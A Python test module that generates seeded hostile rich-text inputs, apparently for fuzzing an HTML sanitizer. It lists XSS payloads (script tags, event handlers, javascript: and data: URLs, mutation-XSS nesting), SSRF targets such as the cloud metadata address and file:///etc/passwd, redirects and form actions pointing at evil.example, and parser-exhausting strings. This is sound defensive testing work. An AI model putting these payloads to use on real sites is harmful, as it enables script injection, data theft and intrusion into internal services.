"""Rich texts that somebody wrote to harm: markup that runs, leads away, hides, or wears a parser out. All are made
here, by a chance that is seeded."""

from collections.abc import Iterator
from random import Random

ALARM = "technopole-alarm"
RUN = f"alert('{ALARM}')"
LIVE_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"&#106;avascript&colon;{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "//evil.example/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::1]:8000/",
    "http://[",
    "http://" + "a" * 5000,
)
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}><script>{RUN}</script></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>mot</text></a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "<iframe src='http://127.0.0.1:8000/'></iframe>",
    f"<object data='javascript:{RUN}'></object><embed src='data:text/html,{RUN}'>",
    "<base href='//evil.example/'><link rel=stylesheet href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action='//evil.example/'><input autofocus><button formaction='//evil.example/'>",
    "<style>@import '//evil.example/'; p { background: url(//evil.example/) }</style>",
    f"<video><source onerror={RUN}></video><details open ontoggle={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<!--><script>{RUN}</script>--><![CDATA[<script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><!DOCTYPE p [<!ENTITY a '{RUN}'>]>&a;",
    f"<textarea></textarea><title></title><xmp><script>{RUN}</script></xmp>",
    f"<plaintext><script>{RUN}</script>",
    '<embed embedtype="media" url="http://127.0.0.1:8000/admin/"/>',
    '<embed embedtype="media" url="http://169.254.169.254/"/>',
    '<embed embedtype="image" id="999999" format="nothing" alt="&quot;onload=alert(1)"/>',
    '<embed embedtype="nothing" id="x"/>',
    '<a linktype="page" id="999999">mort</a>',
    '<a linktype="page" id="x">mort</a>',
    '<a linktype="document" id="-1">mort</a>',
    '<a linktype="nothing" id="1">mort</a>',
    '<a linktype="page">mort</a>',
    f'<a linktype="external" href="javascript:{RUN}">mort</a>',
)
PIECES = ("<", ">", "</", "/>", '"', "'", "<!--", "-->", "&lt;", "&#x3c;", "&", "=", "\u2028")
ODD = ("\u202e\u2066mot\u202c", "\ufeff", "\ud800", "a\0b", "\x07\x1b[31m", "e" + "\u0301" * 3000)


def attributes() -> Iterator[str]:
    """Harmless elements with what is not theirs."""
    for tag in ("p", "b", "a", "li", "sup"):
        yield f"<{tag} onclick={RUN} onmouseover=\"{RUN}\" style='x:expression({RUN})'>mot</{tag}>"
        yield f"<{tag}\fonclick={RUN} class=x id=cookie name=body>mot</{tag}>"
        yield f"<{tag}/onfocus={RUN}/autofocus tabindex=1>mot</{tag}>"
    for address in LIVE_ADDRESSES:
        yield f'<a href="{address}">piège</a>'
        yield f"<a href='{address}' target=_blank>piège</a>"


def exhausting() -> Iterator[str]:
    """Deep, long, or never closed."""
    for tag in ("b", "ul><li", "div", "a href='#'"):
        yield f"<{tag}>" * 10_000
    yield "<p>" * 10_000 + "mot" + "</p>" * 10_000
    yield "</b>" * 10_000
    yield "<a " + " ".join(f"a{each}=1" for each in range(10_000)) + ">mot</a>"
    yield "&" + "amp;" * 20_000
    yield "mot " * 50_000
    yield "<" * 20_000
    yield "a" * 100_000


def mutated(chance: Random, texts: list[str]) -> str:
    """Two texts, cut and joined with pieces of markup between."""
    first, second = (chance.choice(texts)[:2000] for _ in range(2))
    place, other = chance.randrange(len(first) + 1), chance.randrange(len(second) + 1)
    pieces = "".join(chance.choices(PIECES, k=chance.randrange(6)))
    odd = chance.choice(ODD) if chance.random() < 0.1 else ""
    return first[:place] + pieces + odd + second[other:]


def hostile_texts(chance: Random, count: int) -> list[str]:
    """Marked-up texts: each kind, then mixtures until there are `count`."""
    texts = [*ELEMENTS, *attributes(), *(f"<p>{each}</p>" for each in ODD), *exhausting()]
    texts += [mutated(chance, texts) for _ in range(count - len(texts))]
    return texts[:count]
